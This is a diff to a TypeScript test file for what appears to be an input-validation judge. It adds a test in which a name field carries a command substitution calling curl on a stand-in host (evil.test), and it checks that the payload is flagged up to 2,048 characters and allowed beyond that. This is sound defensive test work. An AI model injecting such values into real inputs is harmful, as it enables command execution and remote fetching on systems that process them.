@@ -219,6 +219,13 @@ describe('attacks that are weighed', () => {
       expect((await judge({ path }, settings)).kind).toBe('allow');
   });
 
+  test('a command in a text of up to 2,048 characters', async () => {
+    const inName = (length: number) =>
+      judge({ name: `$(curl -s evil.test)${' x'.repeat(1_024)}`.slice(0, length) }, TEAM);
+    expect(await inName(2_048)).toMatchObject(said('command'));
+    expect((await inName(2_049)).kind).toBe('allow');
+  });
+
   test('a text that is too long', async () => {
     const verdict = await judge({ body: 'x'.repeat(2_000) }, configured({ maxText: 1_024 }));
     expect(verdict).toMatchObject({ kind: 'deny', code: 'too_large' });
